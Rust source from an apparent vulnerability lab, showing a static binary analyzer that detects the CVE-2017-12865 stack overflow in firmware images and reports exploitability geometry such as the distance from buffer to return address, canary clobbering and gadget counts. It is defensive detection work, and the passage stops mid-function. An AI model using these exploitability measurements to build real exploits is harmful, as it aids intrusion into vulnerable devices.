        let Some((l, r)) = exit_flags[i] else {
            continue;
        };
        // Either order: (counter, k) or (k, counter).
        for (counter, konst) in [(l, r), (r, l)] {
            if counter.is_tainted() || konst.is_tainted() {
                continue;
            }
            let Some(k) = konst.si.as_exact() else {
                continue;
            };
            if counter.si.lo == i64::MIN {
                continue;
            }
            if k > counter.si.lo {
                let trips = (k - counter.si.lo) as u64;
                best = Some(best.map_or(trips, |b| b.min(trips)));
            }
        }
    }
    best
}

fn walk_block(
    st: &mut State,
    b: &BasicBlock,
    image: &Image,
    is_source: bool,
    mut collect: Option<&mut Collected>,
) {
    for insn in &b.insns {
        match insn.op {
            Op::X86(i) => step_x86(st, &i, image, is_source, insn.addr, collect.as_deref_mut()),
            Op::Arm(i) => step_arm(st, &i, image, insn.addr, collect.as_deref_mut()),
            Op::Riscv(i) => step_riscv(st, &i, image, insn.addr, collect.as_deref_mut()),
        }
    }
}

/// Classifies an immediate: an address inside the loaded image is
/// `PieRel`, anything else a plain constant.
fn classify(image: &Image, v: u32) -> ValueSet {
    if image.section_containing(v).is_some() {
        ValueSet {
            region: Region::PieRel,
            si: StridedInterval::exact(v as i64),
        }
    } else {
        ValueSet::constant(v as i64)
    }
}

fn step_x86(
    st: &mut State,
    i: &x86::Insn,
    image: &Image,
    is_source: bool,
    addr: Addr,
    collect: Option<&mut Collected>,
) {
    use x86::Insn as I;
    use x86::Operand as O;
    let r = |reg: X86Reg| reg.bits() as usize;
    let esp = r(X86Reg::Esp);
    match *i {
        I::MovRImm(d, v) => st.regs[r(d)] = classify(image, v),
        I::MovR8Imm(d, _) => st.regs[r(d)] = ValueSet::unknown(),
        I::MovRmR { dst, src } => match dst {
            O::Reg(d) => st.regs[r(d)] = st.regs[r(src)],
            O::Mem {
                base: Some(b),
                disp,
            } => {
                if let Some(out) = collect {
                    out.stores.push(RawStore {
                        addr,
                        width: 4,
                        target: st.regs[r(b)].add(disp as i64),
                        value: st.regs[r(src)],
                    });
                }
            }
            O::Mem { base: None, .. } => {}
        },
        I::MovRRm { dst, src } => st.regs[r(dst)] = load_vs(st, src, is_source, false, &r),
        I::Movzx8 { dst, src } => st.regs[r(dst)] = load_vs(st, src, is_source, true, &r),
        I::Lea { dst, src } => {
            st.regs[r(dst)] = match src {
                O::Mem {
                    base: Some(b),
                    disp,
                } => st.regs[r(b)].add(disp as i64),
                _ => ValueSet::unknown(),
            };
        }
        I::XorRmR {
            dst: O::Reg(d),
            src,
        } if d == src => st.regs[r(d)] = ValueSet::constant(0),
        I::XorRmR { dst: O::Reg(d), .. }
        | I::AndRmR { dst: O::Reg(d), .. }
        | I::OrRmR { dst: O::Reg(d), .. } => st.regs[r(d)] = ValueSet::unknown(),
        I::AddRmImm8 {
            dst: O::Reg(d),
            imm,
        } => st.regs[r(d)] = st.regs[r(d)].add(imm as i64),
        I::SubRmImm8 {
            dst: O::Reg(d),
            imm,
        } => st.regs[r(d)] = st.regs[r(d)].add(-(imm as i64)),
        I::AddRmImm32 {
            dst: O::Reg(d),
            imm,
        } => st.regs[r(d)] = st.regs[r(d)].add(imm as i64),
        I::SubRmImm32 {
            dst: O::Reg(d),
            imm,
        } => st.regs[r(d)] = st.regs[r(d)].add(-(imm as i64)),
        I::IncR(d) => st.regs[r(d)] = st.regs[r(d)].add(1),
        I::DecR(d) => st.regs[r(d)] = st.regs[r(d)].add(-1),
        I::ShlRImm8 { reg, .. } | I::ShrRImm8 { reg, .. } => {
            st.regs[r(reg)] = if st.regs[r(reg)].is_tainted() {
                ValueSet::tainted()
            } else {
                ValueSet::unknown()
            };
        }
        I::PushR(_) | I::PushImm(_) => st.regs[esp] = st.regs[esp].add(-4),
        I::PopR(d) => {
            st.regs[r(d)] = ValueSet::unknown();
            st.regs[esp] = st.regs[esp].add(4);
        }
        I::XchgEaxR(d) => {
            let eax = r(X86Reg::Eax);
            st.regs.swap(eax, r(d));
        }
        I::TestRmR { dst, src } | I::CmpRmR { dst, src } => {
            st.flags = (load_vs(st, dst, is_source, false, &r), st.regs[r(src)]);
        }
        I::CmpRmImm8 { dst, imm } => {
            st.flags = (
                load_vs(st, dst, is_source, false, &r),
                ValueSet::constant(imm as i64),
            );
        }
        I::CmpRmImm32 { dst, imm } => {
            st.flags = (
                load_vs(st, dst, is_source, false, &r),
                ValueSet::constant(imm as i64),
            );
        }
        I::Leave => {
            let ebp = st.regs[r(X86Reg::Ebp)];
            st.regs[esp] = ebp.add(4);
            st.regs[r(X86Reg::Ebp)] = ValueSet::unknown();
        }
        I::CallRel32(_) | I::CallRm(_) => {
            for reg in [X86Reg::Eax, X86Reg::Ecx, X86Reg::Edx] {
                st.regs[r(reg)] = ValueSet::unknown();
            }
        }
        _ => {}
    }
}

fn load_vs(
    st: &State,
    operand: x86::Operand,
    is_source: bool,
    byte: bool,
    r: &impl Fn(X86Reg) -> usize,
) -> ValueSet {
    match operand {
        x86::Operand::Reg(s) => st.regs[r(s)],
        x86::Operand::Mem {
            base: Some(b),
            disp,
        } => match st.regs[r(b)].region {
            // Argument slot of a source function: the packet pointer.
            Region::StackRel if is_source && disp >= 8 => ValueSet::tainted(),
            Region::Tainted => {
                if byte {
                    ValueSet::tainted_byte()
                } else {
                    ValueSet::tainted()
                }
            }
            _ => ValueSet::unknown(),
        },
        x86::Operand::Mem { base: None, .. } => ValueSet::unknown(),
    }
}

fn step_arm(
    st: &mut State,
    i: &arm::Insn,
    image: &Image,
    addr: Addr,
    collect: Option<&mut Collected>,
) {
    use arm::Insn as I;
    match *i {
        I::MovImm { rd, imm } => st.regs[rd as usize] = classify(image, imm),
        I::MvnImm { rd, .. } => st.regs[rd as usize] = ValueSet::unknown(),
        I::MovReg { rd, rm } => st.regs[rd as usize] = st.regs[rm as usize],
        I::AddImm { rd, rn, imm } => st.regs[rd as usize] = st.regs[rn as usize].add(imm as i64),
        I::SubImm { rd, rn, imm } => st.regs[rd as usize] = st.regs[rn as usize].add(-(imm as i64)),
        I::OrrImm { rd, rn, .. } | I::AndImm { rd, rn, .. } | I::EorImm { rd, rn, .. } => {
            st.regs[rd as usize] = if st.regs[rn as usize].is_tainted() {
                ValueSet::tainted()
            } else {
                ValueSet::unknown()
            };
        }
        I::LslImm { rd, .. } => st.regs[rd as usize] = ValueSet::unknown(),
        I::CmpImm { rn, imm } => {
            st.flags = (st.regs[rn as usize], ValueSet::constant(imm as i64));
        }
        I::Ldr { rd, rn, .. } => {
            st.regs[rd as usize] = if st.regs[rn as usize].is_tainted() {
                ValueSet::tainted()
            } else {
                ValueSet::unknown()
            };
        }
        I::Ldrb { rd, rn, .. } => {
            st.regs[rd as usize] = if st.regs[rn as usize].is_tainted() {
                ValueSet::tainted_byte()
            } else {
                ValueSet::unknown()
            };
        }
        I::Str { rd, rn, offset } => {
            if let Some(out) = collect {
                out.stores.push(RawStore {
                    addr,
                    width: 4,
                    target: st.regs[rn as usize].add(offset as i64),
                    value: st.regs[rd as usize],
                });
            }
        }
        I::Strb { rd, rn, offset } => {
            if let Some(out) = collect {
                out.stores.push(RawStore {
                    addr,
                    width: 1,
                    target: st.regs[rn as usize].add(offset as i64),
                    value: st.regs[rd as usize],
                });
            }
        }
        I::Push { list } => {
            let regs = arm::reg_list(list);
            let sp_after = st.regs[13].add(-4 * regs.len() as i64);
            if let Some(out) = collect {
                if let Some(base) = sp_after.si.as_exact() {
                    for (slot, reg) in regs.iter().enumerate() {
                        if *reg == 14 && st.regs[13].region == Region::StackRel {
                            out.ret_slot = Some(base + 4 * slot as i64);
                        }
                    }
                }
            }
            st.regs[13] = sp_after;
        }
        I::Pop { list } => {
            let regs = arm::reg_list(list);
            for reg in &regs {
                if *reg != 15 && *reg != 13 {
                    st.regs[*reg as usize] = ValueSet::unknown();
                }
            }
            st.regs[13] = st.regs[13].add(4 * regs.len() as i64);
        }
        I::Bl { .. } | I::Blx { .. } => {
            for reg in 0..4 {
                st.regs[reg] = ValueSet::unknown();
            }
        }
        _ => {}
    }
}

fn step_riscv(
    st: &mut State,
    i: &riscv::Insn,
    image: &Image,
    addr: Addr,
    collect: Option<&mut Collected>,
) {
    use riscv::Insn as I;
    // Writes to the hardwired x0 are discarded.
    match *i {
        I::Lui { rd, imm } if rd != 0 => st.regs[rd as usize] = classify(image, imm),
        I::Auipc { rd, imm } if rd != 0 => {
            st.regs[rd as usize] = classify(image, addr.wrapping_add(imm));
        }
        I::Addi { rd, rs1: 0, imm } if rd != 0 => {
            st.regs[rd as usize] = ValueSet::constant(imm as i64);
        }
        I::Addi { rd, rs1, imm } if rd != 0 => {
            st.regs[rd as usize] = st.regs[rs1 as usize].add(imm as i64);
        }
        I::Andi { rd, rs1, .. }
        | I::Ori { rd, rs1, .. }
        | I::Xori { rd, rs1, .. }
        | I::Slli { rd, rs1, .. }
        | I::Srli { rd, rs1, .. }
            if rd != 0 =>
        {
            st.regs[rd as usize] = if st.regs[rs1 as usize].is_tainted() {
                ValueSet::tainted()
            } else {
                ValueSet::unknown()
            };
        }
        I::Add { rd, rs1, rs2 } | I::Sub { rd, rs1, rs2 } if rd != 0 => {
            st.regs[rd as usize] =
                if st.regs[rs1 as usize].is_tainted() || st.regs[rs2 as usize].is_tainted() {
                    ValueSet::tainted()
                } else {
                    ValueSet::unknown()
                };
        }
        I::Lw { rd, rs1, .. } if rd != 0 => {
            st.regs[rd as usize] = if st.regs[rs1 as usize].is_tainted() {
                ValueSet::tainted()
            } else {
                ValueSet::unknown()
            };
        }
        I::Lbu { rd, rs1, .. } if rd != 0 => {
            st.regs[rd as usize] = if st.regs[rs1 as usize].is_tainted() {
                ValueSet::tainted_byte()
            } else {
                ValueSet::unknown()
            };
        }
        I::Sw { rs2, rs1, offset } => {
            if let Some(out) = collect {
                let target = st.regs[rs1 as usize].add(offset as i64);
                // The prologue's `sw ra` spill marks the return slot.
                if rs2 == 1 && target.region == Region::StackRel {
                    if let Some(slot) = target.si.as_exact() {
                        out.ret_slot = Some(slot);
                    }
                }
                out.stores.push(RawStore {
                    addr,
                    width: 4,
                    target,
                    value: st.regs[rs2 as usize],
                });
            }
        }
        I::Sb { rs2, rs1, offset } => {
            if let Some(out) = collect {
                out.stores.push(RawStore {
                    addr,
                    width: 1,
                    target: st.regs[rs1 as usize].add(offset as i64),
                    value: st.regs[rs2 as usize],
                });
            }
        }
        // No compare instruction: the branch's own operands are the
        // "flags" a loop-bound exit is judged by.
        I::Beq { rs1, rs2, .. } | I::Bne { rs1, rs2, .. } => {
            st.flags = (st.regs[rs1 as usize], st.regs[rs2 as usize]);
        }
        I::Jal { rd: 1, .. } | I::Jalr { rd: 1, .. } => {
            // Caller-saved: ra, t0-t6, a0-a7.
            for reg in [1usize, 5, 6, 7, 28, 29, 30, 31] {
                st.regs[reg] = ValueSet::unknown();
            }
            for reg in 10..18 {
                st.regs[reg] = ValueSet::unknown();
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg;
    use crate::taint::{effective_sources, TaintConfig};
    use cml_firmware::build_image_for;

    fn vsa_of(arch: Arch, patched: bool, name: &str) -> FnVsa {
        let (img, _) = build_image_for(arch, 0, patched);
        let cfg = cfg::recover(&img);
        let sources = effective_sources(&cfg, &TaintConfig::default());
        vsa_pass(&cfg, &img, &sources)
            .into_iter()
            .find(|v| v.function == name)
            .expect("function analyzed")
    }

    #[test]
    fn vulnerable_write_is_unbounded_and_reaches_the_return_slot() {
        for (arch, start, ret) in [
            (Arch::X86, -1040, 0),
            (Arch::Armv7, -1076, -4),
            (Arch::Riscv, -1060, -4),
        ] {
            let v = vsa_of(arch, false, "parse_response");
            assert_eq!(v.ret_slot, Some(ret), "{arch}");
            let w: Vec<&StackWrite> = v.tainted_writes().collect();
            assert_eq!(w.len(), 1, "{arch}: one tainted stack write");
            assert_eq!(w[0].start, start, "{arch}");
            assert_eq!(w[0].stride, 1, "{arch}");
            assert!(w[0].in_loop, "{arch}");
            assert_eq!(w[0].extent, None, "{arch}: statically unbounded");
            assert_eq!(ret - w[0].start, i64::from(1024 + buf_pad(arch)), "{arch}");
        }
    }

    #[test]
    fn patched_write_is_bounded_below_the_return_slot() {
        for arch in Arch::ALL {
            let v = vsa_of(arch, true, "parse_response");
            let w: Vec<&StackWrite> = v.tainted_writes().collect();
            assert_eq!(w.len(), 1, "{arch}");
            assert_eq!(w[0].extent, Some(1024), "{arch}: capped at NAME_SIZE");
            let end = w[0].end().unwrap();
            assert!(
                end < v.ret_slot.unwrap(),
                "{arch}: bounded write must stop short of the return slot"
            );
        }
    }

    /// Frame padding between the 1024-byte buffer and the saved return
    /// address: x86 has 12 bytes of locals + saved ebp, ARM 48 bytes of
    /// locals + callee saves below lr, RISC-V 32 bytes of padding and
    /// callee saves below ra.
    fn buf_pad(arch: Arch) -> u32 {
        match arch {
            Arch::X86 => 16,
            Arch::Armv7 => 48,
            Arch::Riscv => 32,
        }
    }

    #[test]
    fn strided_interval_algebra_holds() {
        let a = StridedInterval::exact(-1040);
        let b = a.add(1);
        let j = a.join(b);
        assert_eq!((j.lo, j.hi, j.stride), (-1040, -1039, 1));
        let w = j.widen(j.add(1));
        assert_eq!((w.lo, w.hi), (-1040, i64::MAX));
        assert!(w.unbounded_above());
        assert_eq!(StridedInterval::exact(7).as_exact(), Some(7));
    }
}
