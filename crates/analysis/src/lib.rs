//! `cml-analyze`: static binary analysis for connman-lab firmware
//! images.
//!
//! Where the rest of the workspace *exploits* CVE-2017-12865, this
//! crate *detects* it without executing a single instruction:
//!
//! 1. [`cfg::recover`] lifts every function symbol into a control-flow
//!    graph using the VM's own decoders through a shared
//!    [`predecode::Predecoder`] memo (the static twin of the
//!    interpreter's decode cache).
//! 2. [`callgraph::CallGraph`] organizes the resolved call edges into a
//!    whole-image graph with per-function [`callgraph::FnSummary`]s.
//! 3. [`taint::taint_pass`] runs an abstract interpretation that flags
//!    DNS-response bytes flowing into a fixed-size stack buffer through
//!    a copy loop with no untainted bound — the `get_name` bug shape —
//!    propagating taint interprocedurally down the recovered
//!    `forward_dns_reply → uncompress → parse_response` chain.
//! 4. [`vsa::vsa_pass`] runs a value-set analysis with a
//!    strided-interval domain that derives, per store, *which* stack
//!    bytes can be written, and [`frames::recover_frames`] recovers each
//!    function's frame geometry from its prologue.
//! 5. [`audit::audit`] reports the mitigation posture: W⊕X violations,
//!    canary instrumentation, and per-section gadget surface.
//!
//! The pieces combine into a static **exploitability verdict**
//! ([`Exploitability`]): write start, maximum extent, byte distance
//! from buffer to saved return address, and whether a stack canary
//! would be clobbered — numbers the dynamic sanitizer and exploit
//! harness measure independently, which the oracle test suite pins
//! byte-for-byte against these predictions.
//!
//! [`analyze`] bundles everything into an [`AnalysisReport`] with a
//! stable machine-readable JSON rendering (`cml-analyze/v2`; v1
//! documents still parse) plus a SARIF 2.1.0 view ([`AnalysisReport::
//! to_sarif`]), and [`self_test`] is the CI entry point behind `cml
//! analyze --self-test`.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod audit;
pub mod callgraph;
pub mod cfg;
pub mod frames;
pub mod json;
pub mod predecode;
pub mod taint;
pub mod vsa;

use cml_image::{Addr, Image};

pub use audit::{AuditReport, SectionAudit};
pub use callgraph::{CallGraph, FnSummary, Summaries};
pub use cfg::{Cfg, CfgStats};
pub use frames::FrameInfo;
pub use taint::{TaintConfig, TaintFinding};
pub use vsa::{FnVsa, Region, StackWrite, StridedInterval, ValueSet};

/// Current report schema tag.
pub const SCHEMA: &str = "cml-analyze/v2";

/// Digest of the whole-image call graph carried in the report.
#[derive(Debug, Clone)]
pub struct CallGraphReport {
    /// Total direct call edges.
    pub edges: usize,
    /// Functions nothing in the image calls.
    pub roots: Vec<String>,
    /// Per-function call summaries, sorted by name.
    pub summaries: Vec<(String, FnSummary)>,
}

/// Static exploitability verdict for one taint finding, in the same
/// entry-SP-relative coordinates as [`frames`] and [`vsa`].
#[derive(Debug, Clone)]
pub struct Exploitability {
    /// Function containing the write.
    pub function: String,
    /// Address of the store instruction.
    pub store_addr: Addr,
    /// Entry-SP-relative offset of the first byte written (the buffer).
    pub write_start: i64,
    /// Entry-SP-relative offset of the saved return address.
    pub ret_offset: Option<i64>,
    /// Byte distance from buffer start to the saved return address —
    /// the overwrite distance an exploit payload must cover.
    pub buf_to_ret: Option<i64>,
    /// Maximum bytes the write can touch; `None` = statically
    /// unbounded (attacker-controlled length).
    pub max_extent: Option<u32>,
    /// Whether the write can reach the saved return address.
    pub reaches_ret: bool,
    /// Whether a stack canary between buffer and return address would
    /// be clobbered (a contiguous overwrite cannot skip it).
    pub clobbers_canary: bool,
    /// Statically recovered call chain from the taint source to the
    /// vulnerable function.
    pub call_chain: Vec<String>,
}

/// Everything the analyzer has to say about one image.
#[derive(Debug, Clone)]
pub struct AnalysisReport {
    /// Architecture name (`"x86"` / `"armv7"` style, from the image).
    pub arch: String,
    /// CFG size metrics.
    pub cfg: CfgStats,
    /// Taint findings (empty on a patched image).
    pub findings: Vec<TaintFinding>,
    /// Per-function frame layouts recovered from prologues.
    pub frames: Vec<FrameInfo>,
    /// Call-graph digest with per-function summaries.
    pub call_graph: CallGraphReport,
    /// Static exploitability verdicts, one per finding.
    pub exploitability: Vec<Exploitability>,
    /// Mitigation posture.
    pub audit: AuditReport,
}

impl AnalysisReport {
    /// Whether the taint pass found nothing. The audit is intentionally
    /// excluded: an executable stack is a property of the deployment,
    /// not of the `parse_response` body.
    pub fn clean(&self) -> bool {
        self.findings.is_empty()
    }

    /// Renders the report as a `cml-analyze/v2` JSON document. Strings
    /// are borrowed from the report — no clone churn on the hot
    /// emission path.
    pub fn to_json(&self) -> json::Value<'_> {
        use json::{n, s, Value};
        let hex = |a: u32| s(format!("{a:#010x}"));
        let opt_i = |v: Option<i64>| v.map_or(Value::Null, |x| n(x as f64));
        let findings = self
            .findings
            .iter()
            .map(|f| {
                Value::Obj(vec![
                    ("function".into(), s(f.function.as_str())),
                    ("store_addr".into(), hex(f.store_addr)),
                    ("loop_head".into(), hex(f.loop_head)),
                    ("source".into(), s(f.source.as_str())),
                    ("sink".into(), s(f.sink.as_str())),
                    ("capacity".into(), n(f.capacity)),
                ])
            })
            .collect();
        let frames = self
            .frames
            .iter()
            .map(|fr| {
                Value::Obj(vec![
                    ("function".into(), s(fr.function.as_str())),
                    ("frame_size".into(), n(fr.frame_size)),
                    ("saved_regs".into(), n(fr.saved_regs)),
                    ("buf_offset".into(), opt_i(fr.buf_offset)),
                    ("ret_offset".into(), opt_i(fr.ret_offset)),
                    ("canary_offset".into(), opt_i(fr.canary_offset)),
                    ("buf_to_ret".into(), opt_i(fr.buf_to_ret())),
                ])
            })
            .collect();
        let summaries = self
            .call_graph
            .summaries
            .iter()
            .map(|(name, sum)| {
                Value::Obj(vec![
                    ("function".into(), s(name.as_str())),
                    (
                        "returns_const".into(),
                        sum.returns_const.map_or(Value::Null, n),
                    ),
                    ("writes_mem".into(), Value::Bool(sum.writes_mem)),
                    ("unbounded_copy".into(), Value::Bool(sum.unbounded_copy)),
                    ("may_overflow".into(), Value::Bool(sum.may_overflow)),
                ])
            })
            .collect();
        let exploitability = self
            .exploitability
            .iter()
            .map(|e| {
                Value::Obj(vec![
                    ("function".into(), s(e.function.as_str())),
                    ("store_addr".into(), hex(e.store_addr)),
                    ("write_start".into(), n(e.write_start as f64)),
                    ("ret_offset".into(), opt_i(e.ret_offset)),
                    ("buf_to_ret".into(), opt_i(e.buf_to_ret)),
                    ("max_extent".into(), e.max_extent.map_or(Value::Null, n)),
                    ("unbounded".into(), Value::Bool(e.max_extent.is_none())),
                    ("reaches_saved_ret".into(), Value::Bool(e.reaches_ret)),
                    ("clobbers_canary".into(), Value::Bool(e.clobbers_canary)),
                    (
                        "call_chain".into(),
                        Value::Arr(e.call_chain.iter().map(|c| s(c.as_str())).collect()),
                    ),
                ])
            })
            .collect();
        let sections = self
            .audit
            .sections
            .iter()
            .map(|sec| {
                Value::Obj(vec![
                    ("name".into(), s(sec.name.as_str())),
                    ("perms".into(), s(sec.perms.as_str())),
                    ("size".into(), n(sec.size)),
                    ("executable".into(), Value::Bool(sec.executable)),
                    ("wx_violation".into(), Value::Bool(sec.wx_violation)),
                    ("gadgets".into(), n(sec.gadgets as u32)),
                    (
                        "gadget_density_per_kib".into(),
                        n(sec.gadget_density_per_kib),
                    ),
                ])
            })
            .collect();
        Value::Obj(vec![
            ("schema".into(), s(SCHEMA)),
            ("arch".into(), s(self.arch.as_str())),
            (
                "cfg".into(),
                Value::Obj(vec![
                    ("functions".into(), n(self.cfg.functions as u32)),
                    ("blocks".into(), n(self.cfg.blocks as u32)),
                    ("instructions".into(), n(self.cfg.instructions as u32)),
                    ("call_edges".into(), n(self.cfg.call_edges as u32)),
                    ("decode_hits".into(), n(self.cfg.decode_hits as u32)),
                    ("decode_misses".into(), n(self.cfg.decode_misses as u32)),
                ]),
            ),
            ("clean".into(), Value::Bool(self.clean())),
            ("findings".into(), Value::Arr(findings)),
            ("frames".into(), Value::Arr(frames)),
            (
                "callgraph".into(),
                Value::Obj(vec![
                    ("edges".into(), n(self.call_graph.edges as u32)),
                    (
                        "roots".into(),
                        Value::Arr(
                            self.call_graph
                                .roots
                                .iter()
                                .map(|r| s(r.as_str()))
                                .collect(),
                        ),
                    ),
                    ("summaries".into(), Value::Arr(summaries)),
                ]),
            ),
            ("exploitability".into(), Value::Arr(exploitability)),
            (
                "audit".into(),
                Value::Obj(vec![
                    (
                        "wx_violations".into(),
                        Value::Arr(
                            self.audit
                                .wx_violations
                                .iter()
                                .map(|v| s(v.as_str()))
                                .collect(),
                        ),
                    ),
                    (
                        "canary_instrumented".into(),
                        Value::Bool(self.audit.canary_instrumented),
                    ),
                    ("gadget_total".into(), n(self.audit.gadget_total as u32)),
                    ("sections".into(), Value::Arr(sections)),
                ]),
            ),
        ])
    }

    /// Renders the findings as a SARIF 2.1.0 log, one result per taint
    /// finding with the store address as the physical location and the
    /// exploitability verdict folded into the message.
    pub fn to_sarif(&self) -> json::Value<'_> {
        use json::{n, s, Value};
        let results = self
            .findings
            .iter()
            .map(|f| {
                let verdict = self
                    .exploitability
                    .iter()
                    .find(|e| e.function == f.function && e.store_addr == f.store_addr);
                let text = match verdict {
                    Some(e) => format!(
                        "Unbounded copy of {} into a {}-byte stack buffer; the write can \
                         cover the {} bytes up to the saved return address (chain: {}).",
                        f.source,
                        f.capacity,
                        e.buf_to_ret.unwrap_or_default(),
                        e.call_chain.join(" -> "),
                    ),
                    None => format!(
                        "Unbounded copy of {} into a {}-byte stack buffer.",
                        f.source, f.capacity
                    ),
                };
                Value::Obj(vec![
                    ("ruleId".into(), s("CML001")),
                    ("level".into(), s("error")),
                    ("message".into(), Value::Obj(vec![("text".into(), s(text))])),
                    (
                        "locations".into(),
                        Value::Arr(vec![Value::Obj(vec![
                            (
                                "physicalLocation".into(),
                                Value::Obj(vec![
                                    (
                                        "artifactLocation".into(),
                                        Value::Obj(vec![(
                                            "uri".into(),
                                            s(format!("firmware://{}/.text", self.arch)),
                                        )]),
                                    ),
                                    (
                                        "address".into(),
                                        Value::Obj(vec![(
                                            "absoluteAddress".into(),
                                            n(f.store_addr),
                                        )]),
                                    ),
                                ]),
                            ),
                            (
                                "logicalLocations".into(),
                                Value::Arr(vec![Value::Obj(vec![
                                    ("name".into(), s(f.function.as_str())),
                                    ("kind".into(), s("function")),
                                ])]),
                            ),
                        ])]),
                    ),
                ])
            })
            .collect();
        Value::Obj(vec![
            (
                "$schema".into(),
                s("https://json.schemastore.org/sarif-2.1.0.json"),
            ),
            ("version".into(), s("2.1.0")),
            (
                "runs".into(),
                Value::Arr(vec![Value::Obj(vec![
                    (
                        "tool".into(),
                        Value::Obj(vec![(
                            "driver".into(),
                            Value::Obj(vec![
                                ("name".into(), s("cml-analyze")),
                                ("version".into(), s("2.0.0")),
                                (
                                    "informationUri".into(),
                                    s("https://nvd.nist.gov/vuln/detail/CVE-2017-12865"),
                                ),
                                (
                                    "rules".into(),
                                    Value::Arr(vec![Value::Obj(vec![
                                        ("id".into(), s("CML001")),
                                        ("name".into(), s("UnboundedTaintedStackCopy")),
                                        (
                                            "shortDescription".into(),
                                            Value::Obj(vec![(
                                                "text".into(),
                                                s("Attacker-length copy into a fixed stack buffer"),
                                            )]),
                                        ),
                                    ])]),
                                ),
                            ]),
                        )]),
                    ),
                    ("results".into(), Value::Arr(results)),
                ])]),
            ),
        ])
    }
}

/// Runs the full pipeline — CFG recovery, call graph + summaries,
/// interprocedural taint, VSA, frame recovery, exploitability verdicts,
/// mitigation audit — over one image with the default [`TaintConfig`].
pub fn analyze(image: &Image) -> AnalysisReport {
    analyze_with(image, &TaintConfig::default())
}

/// [`analyze`] with an explicit source/sink configuration.
pub fn analyze_with(image: &Image, config: &TaintConfig) -> AnalysisReport {
    let cfg = cfg::recover(image);
    let summaries = Summaries::compute(&cfg);
    let graph = CallGraph::build(&cfg);
    let findings = taint::taint_pass_with(&cfg, config, &summaries);
    let sources = taint::effective_sources(&cfg, config);
    let value_sets = vsa::vsa_pass(&cfg, image, &sources);
    let frames = frames::recover_frames(&cfg);
    let exploitability = assess(&findings, &value_sets, &graph, config);
    let audit = audit::audit(image, &cfg);
    AnalysisReport {
        arch: image.arch().to_string(),
        cfg: cfg.stats,
        findings,
        frames,
        call_graph: CallGraphReport {
            edges: graph.edge_count(),
            roots: graph.roots().iter().map(|r| (*r).to_string()).collect(),
            summaries: summaries
                .iter()
                .map(|(name, s)| (name.to_string(), s.clone()))
                .collect(),
        },
        exploitability,
        audit,
    }
}

/// Joins taint findings with VSA write geometry and the call graph into
/// per-finding exploitability verdicts.
fn assess(
    findings: &[TaintFinding],
    value_sets: &[FnVsa],
    graph: &CallGraph,
    config: &TaintConfig,
) -> Vec<Exploitability> {
    findings
        .iter()
        .map(|f| {
            let fv = value_sets.iter().find(|v| v.function == f.function);
            let write = fv.and_then(|v| v.writes.iter().find(|w| w.store_addr == f.store_addr));
            let ret_offset = fv.and_then(|v| v.ret_slot);
            let write_start = write.map_or(0, |w| w.start);
            let buf_to_ret = ret_offset.map(|r| r - write_start);
            // An unbounded write reaches anything above it; a bounded
            // one reaches the slot only if its last byte does.
            let reaches_ret = match (write, ret_offset) {
                (Some(w), Some(ret)) => match w.end() {
                    None => ret >= w.start,
                    Some(end) => end >= ret,
                },
                _ => false,
            };
            // A contiguous (stride-1) overwrite cannot skip an interior
            // canary slot on its way to the return address.
            let clobbers_canary = reaches_ret && write.is_some_and(|w| w.stride <= 1);
            let call_chain = config
                .sources
                .iter()
                .find_map(|src| graph.chain_to(src, &f.function))
                .unwrap_or_else(|| vec![f.function.clone()]);
            Exploitability {
                function: f.function.clone(),
                store_addr: f.store_addr,
                write_start,
                ret_offset,
                buf_to_ret,
                max_extent: write.and_then(|w| w.extent),
                reaches_ret,
                clobbers_canary,
                call_chain,
            }
        })
        .collect()
}

/// The analyzer's CI gate, run by `cml analyze --self-test`.
///
/// For each architecture it analyzes a vulnerable and a bounds-checked
/// image and checks the end-to-end contract: exactly one taint finding
/// on the vulnerable body (reached through the recovered
/// `forward_dns_reply → uncompress → parse_response` chain, 1024-byte
/// sink), an exploitability verdict whose geometry matches the
/// firmware's ground-truth frame layout, zero findings on the patched
/// body, an executable-stack W⊕X violation and no canaries under the
/// no-protection loader, and JSON + SARIF renderings that round-trip
/// through the crate's own parser.
///
/// # Errors
///
/// Returns a description of the first violated check.
pub fn self_test() -> Result<String, String> {
    use cml_image::Arch;
    let mut lines = Vec::new();
    for arch in Arch::ALL {
        let (vuln, _) = cml_firmware::build_image_for(arch, 0, false);
        let report = analyze(&vuln);
        if report.findings.len() != 1 {
            return Err(format!(
                "{arch}: expected exactly 1 taint finding on the vulnerable image, got {}",
                report.findings.len()
            ));
        }
        let f = &report.findings[0];
        if f.function != cml_connman::SYM_PARSE_RESPONSE {
            return Err(format!(
                "{arch}: finding in {}, not parse_response",
                f.function
            ));
        }
        if f.capacity != cml_connman::NAME_BUFFER_SIZE as u32 {
            return Err(format!("{arch}: sink capacity {} != 1024", f.capacity));
        }

        // Exploitability verdict vs the firmware's ground-truth frame.
        let truth = cml_connman::layout_for(arch);
        let e = report
            .exploitability
            .first()
            .ok_or_else(|| format!("{arch}: no exploitability verdict"))?;
        if e.buf_to_ret != Some(truth.ret_offset as i64) {
            return Err(format!(
                "{arch}: static buf_to_ret {:?} != ground truth {}",
                e.buf_to_ret, truth.ret_offset
            ));
        }
        if e.max_extent.is_some() || !e.reaches_ret || !e.clobbers_canary {
            return Err(format!(
                "{arch}: vulnerable verdict must be unbounded+reaches+clobbers, got {e:?}"
            ));
        }
        if e.call_chain
            != [
                cml_connman::SYM_FORWARD_DNS_REPLY,
                cml_connman::SYM_UNCOMPRESS,
                cml_connman::SYM_PARSE_RESPONSE,
            ]
        {
            return Err(format!("{arch}: wrong call chain {:?}", e.call_chain));
        }

        if report.audit.wx_violations.is_empty() {
            return Err(format!("{arch}: audit missed the executable stack"));
        }
        if report.audit.canary_instrumented {
            return Err(format!(
                "{arch}: lab images must not appear canary-instrumented"
            ));
        }
        let text = report.to_json().to_string();
        let parsed =
            json::parse(&text).map_err(|e| format!("{arch}: emitted JSON invalid: {e}"))?;
        if parsed.get("schema").and_then(json::Value::as_str) != Some(SCHEMA) {
            return Err(format!("{arch}: schema tag missing after round-trip"));
        }
        let sarif = json::parse(&report.to_sarif().to_string())
            .map_err(|e| format!("{arch}: SARIF invalid: {e}"))?;
        if sarif.get("version").and_then(json::Value::as_str) != Some("2.1.0") {
            return Err(format!("{arch}: SARIF version tag wrong"));
        }

        let (fixed, _) = cml_firmware::build_image_for(arch, 0, true);
        let patched = analyze(&fixed);
        if !patched.clean() {
            return Err(format!(
